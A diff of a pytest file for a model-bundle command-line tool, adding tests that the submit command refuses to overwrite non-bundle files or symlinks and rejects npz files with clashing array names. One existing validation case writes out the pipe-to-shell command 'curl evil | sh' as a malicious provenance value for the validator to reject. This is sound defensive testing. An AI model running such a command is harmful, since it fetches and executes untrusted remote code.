@@ -112,7 +112,7 @@ def test_dry_adds_nothing(cli, bundle: Path, tmp_path: Path):
         (lambda raw: raw["provenance"]["data_hashes"].clear(), "data_hashes"),
         (lambda raw: raw["provenance"].update(command="curl evil | sh"), "provenance.command"),
         (lambda raw: raw["task"].update(name="./plugins/dots"), "unknown task"),
-        (lambda raw: raw["task"].update(name="a" * 5000), "unknown task"),
+        (lambda raw: raw["task"].update(name="a" * 5000), "task.name"),
         (lambda raw: raw["task"].update(options={}), "task.options"),
         (lambda raw: raw["task"].update(options={"points": "/dev/zero"}), "'points' cannot be"),
         (lambda raw: raw["model"].update(kind="control"), "model.kind"),
@@ -490,3 +490,29 @@ def test_what_is_to_be_submitted_must_be_clear(cli, plugins: Path, tmp_path: Pat
     (tmp_path / "1.npz").write_bytes((tmp_path / "0.npz").read_bytes())
     end = cli(*words)
     assert end.code == 2, end.out
+
+
+def test_a_bundle_is_written_over_nothing_but_a_bundle(cli, plugins, tmp_path: Path):
+    assert cli("run", "--task", "dots", "--model", "blob", "--budget", "smoke", "--quiet").code == 0
+    card = plugins / "blob" / "card.toml"
+    before = card.read_bytes()
+    (tmp_path / "notes.txt").write_text("mine")
+    (tmp_path / "link.zip").symlink_to(tmp_path / "notes.txt")
+    (tmp_path / "folder").mkdir()
+    for out in (card, "notes.txt", "link.zip", "folder", plugins / "blob" / "new.zip", "results/new.zip"):
+        said = cli("submit", plugins / "blob", "--out", out, "--quiet")
+        assert said.code == 2 and "--out" in said.err, said.err
+    assert card.read_bytes() == before and (tmp_path / "notes.txt").read_text() == "mine"
+    for _ in range(2):
+        said = cli("submit", plugins / "blob", "--out", "mine.zip", "--quiet")
+        assert said.code == 0, said.err
+
+
+def test_two_names_of_one_array_are_refused(cli, plugins, tmp_path: Path):
+    x = np.full((100, 2), 0.5, np.float32)
+    np.savez(tmp_path / "both.npz", **{"samples": x, "samples.samples": x})
+    (tmp_path / "card.toml").write_text('name = "afar"\ntitle = "From afar"\n')
+    words = ["--samples", "both.npz", "--task", "dots"]
+    for verb in (["submit", "--card", "card.toml"], ["score"]):
+        said = cli(*verb, *words, "--quiet")
+        assert said.code == 2 and "two arrays are 'samples.samples'" in said.err
